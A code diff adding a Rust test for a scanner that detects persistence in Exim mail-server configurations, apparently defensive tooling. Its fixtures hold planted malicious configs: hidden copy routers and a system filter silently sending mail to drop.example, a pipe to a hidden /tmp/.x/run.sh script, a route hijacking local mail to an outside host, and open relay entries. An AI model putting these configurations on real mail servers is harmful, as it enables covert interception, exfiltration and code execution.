@@ -404,6 +404,94 @@ pub mod config_tests {
     }
 }
 
+/// Exim's own idioms of persistence, across the configuration rules: a Debian split
+/// configuration with a planted copy router, a forward router, a pipe router, a manualroute
+/// to an outside host, a system filter and widened relay lists.
+#[cfg(test)]
+mod exim_config_tests {
+    use super::config_rules;
+    use super::config_tests::host;
+
+    #[test]
+    fn exim_persistence_is_found_in_its_own_idiom() {
+        let h = host(&[
+            ("/etc/mailname", "mx.lab.example\n"),
+            (
+                "/etc/exim4/update-exim4.conf.conf",
+                "dc_eximconfig_configtype='internet'\ndc_other_hostnames='lab.example'\ndc_relay_nets='127.0.0.1 : 203.0.113.0/24'\n",
+            ),
+            (
+                "/etc/exim4/conf.d/main/01_exim4-config_listmacrosdefs",
+                "domainlist local_domains = @:localhost:lab.example\nhostlist relay_from_hosts = MAIN_RELAY_NETS\n",
+            ),
+            (
+                "/etc/exim4/conf.d/main/02_exim4-config_options",
+                "system_filter = /etc/exim4/system.filter\n",
+            ),
+            (
+                "/etc/exim4/system.filter",
+                "# Exim filter\nif $h_to: contains \"ceo\" then\n  unseen deliver archive@drop.example\nendif\n",
+            ),
+            (
+                "/etc/exim4/conf.d/acl/30_exim4-config_check_rcpt",
+                "acl_check_rcpt:\n  accept hosts = :\n  accept hosts = 198.51.100.0/24\n",
+            ),
+            (
+                "/etc/exim4/conf.d/router/350_local",
+                "carol_copy:\n  driver = redirect\n  domains = +local_domains\n  local_parts = carol\n  unseen\n  data = carol.backup@drop.example\n\ndave_fwd:\n  driver = redirect\n  local_parts = dave\n  data = dave@elsewhere.example\n\nticket:\n  driver = redirect\n  local_parts = helpdesk\n  data = |/tmp/.x/run.sh\n  pipe_transport = address_pipe\n\nhijack:\n  driver = manualroute\n  domains = +local_domains\n  route_list = * 203.0.113.25\n  transport = remote_smtp\n\nsmarthost:\n  driver = manualroute\n  domains = ! +local_domains\n  route_list = * 192.0.2.80\n",
+            ),
+        ]);
+        let found: Vec<(&str, String)> = config_rules()
+            .iter()
+            .flat_map(|r| r.check(&h))
+            .map(|f| (f.rule, f.title.clone()))
+            .collect();
+        let has =
+            |rule: &str, part: &str| found.iter().any(|(r, t)| *r == rule && t.contains(part));
+        assert!(
+            has("persistence.bcc", "router carol_copy copies mail of carol"),
+            "{found:#?}"
+        );
+        assert!(
+            has(
+                "persistence.bcc",
+                "system filter copies mail to archive@drop.example"
+            ),
+            "{found:#?}"
+        );
+        assert!(
+            has(
+                "persistence.forward",
+                "router dave_fwd forwards mail of dave"
+            ),
+            "{found:#?}"
+        );
+        assert!(has("persistence.pipe", "run.sh"), "{found:#?}");
+        assert!(
+            has(
+                "persistence.transport",
+                "router hijack sends local mail to 203.0.113.25"
+            ),
+            "{found:#?}"
+        );
+        assert!(
+            !found.iter().any(|(_, t)| t.contains("smarthost")),
+            "{found:#?}"
+        );
+        assert!(
+            has("config.open_relay", "outside networks 203.0.113.0/24"),
+            "{found:#?}"
+        );
+        assert!(
+            has(
+                "config.open_relay",
+                "ACL accepts outside networks 198.51.100.0/24"
+            ),
+            "{found:#?}"
+        );
+    }
+}
+
 #[cfg(test)]
 mod threshold_tests {
     use super::Thresholds;
